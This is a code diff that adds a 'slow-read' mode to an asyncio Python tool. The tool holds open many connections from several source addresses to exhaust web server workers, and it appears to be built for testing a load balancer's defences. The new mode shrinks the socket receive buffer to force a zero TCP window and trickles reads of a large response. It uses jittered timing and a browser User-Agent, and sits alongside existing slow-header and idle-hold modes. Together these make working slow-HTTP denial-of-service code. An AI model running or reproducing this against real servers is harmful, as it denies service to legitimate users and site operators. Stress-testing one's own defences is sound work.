@@ -13,6 +13,10 @@ real servers' workers the ways the scoring does not want:
                from a raw socket reading this namespace's incoming segments (its own traffic).
   idle-hold    a complete request, its response read, then the keep-alive connection held idle
                with one byte (CRLF, which servers skip between requests) every --interval-s
+  slow-read    a complete request for a large response (/big), read --read-bytes at a time every
+               --interval-s through a receive buffer made as small as the kernel allows
+               (SO_RCVBUF): the buffer stays full, so the kernel advertises a zero window, and the
+               server's worker waits in its write for as long as the body lasts (slowhttptest -X)
 
 Each connection uses TCP_USER_TIMEOUT (--user-timeout-ms): data unacknowledged that long ends it,
 so a connection the director shed (its RST went to the real server; this side never hears of it)
@@ -76,7 +80,8 @@ async def main() -> int:
     ap.add_argument("--port", type=int, default=80)
     ap.add_argument("--addrs", required=True)
     ap.add_argument("--per", type=int, default=4)
-    ap.add_argument("--mode", choices=("slow-header", "slow-forged", "idle-hold"), required=True)
+    ap.add_argument("--mode", choices=("slow-header", "slow-forged", "idle-hold", "slow-read"), required=True)
+    ap.add_argument("--read-bytes", type=int, default=64)
     ap.add_argument("--interval-s", type=float, default=3.0)
     ap.add_argument("--user-timeout-ms", type=int, default=4000)
     ap.add_argument("--ramp-per-s", type=float, default=400.0)
@@ -99,10 +104,50 @@ async def main() -> int:
     def jitter() -> float:
         return args.interval_s * random.uniform(0.7, 1.3)
 
+    async def slow_read(addr: str, seq_no: int) -> None:
+        # A plain non-blocking socket: a StreamReader would drain the kernel's buffer on its own.
+        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        connected = False
+        try:
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)  # the kernel's minimum
+            sock.setsockopt(socket.IPPROTO_TCP, TCP_USER_TIMEOUT, args.user_timeout_ms)
+            sock.bind((addr, 0))
+            sock.setblocking(False)
+            await asyncio.wait_for(loop.sock_connect(sock, (args.host, args.port)), 10.0)
+            connected = True
+            stats["connecting"] -= 1
+            stats["open"] += 1
+            stats["opened"] += 1
+            try:
+                await loop.sock_sendall(sock, b"GET /big?bot=%d HTTP/1.1\r\nHost: www\r\nUser-Agent: Mozilla/5.0\r\n\r\n" % seq_no)
+                while not stopping.is_set():
+                    data = await asyncio.wait_for(loop.sock_recv(sock, args.read_bytes), 10.0)
+                    if data == b"":
+                        return
+                    await asyncio.sleep(jitter())
+            finally:
+                stats["open"] -= 1
+                stats["closed"] += 1
+        except asyncio.TimeoutError:
+            pass
+        finally:
+            if not connected:
+                stats["connecting"] -= 1
+            sock.close()
+
     async def one(addr: str, n: int) -> None:
         seq_no = 0
         while not stopping.is_set():
             stats["connecting"] += 1
+            if args.mode == "slow-read":
+                seq_no += 1
+                try:
+                    await slow_read(addr, seq_no)
+                except OSError:
+                    pass
+                if not stopping.is_set():
+                    await asyncio.sleep(0.2)
+                continue
             established = False
             writer = None
             try:
